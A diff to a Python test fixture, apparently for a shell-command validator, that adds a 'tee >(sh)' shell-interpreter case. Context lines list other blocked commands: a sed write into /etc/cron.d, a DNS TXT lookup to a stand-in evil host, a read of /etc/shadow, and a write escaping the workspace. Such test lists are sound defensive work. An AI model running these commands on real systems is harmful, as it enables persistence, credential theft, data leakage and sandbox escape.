@@ -137,6 +137,7 @@ SHELL_MORE = {
     "sed_write": ("sed -n 'w /etc/cron.d/evil' src/app.py", "privileged_path"),
     "dns_leak": ("dig +short TXT leak.evil.example", "egress_not_allowed"),
     "variable_path": ("F=/etc/shadow; cat $F", "privileged_path"),
+    "tee_procsub": ("echo id | tee >(sh)", "shell_interpreter"),
     "pwd_escape": ("echo x > $PWD/../escape.txt", "path_outside_workspace"),
 }
 
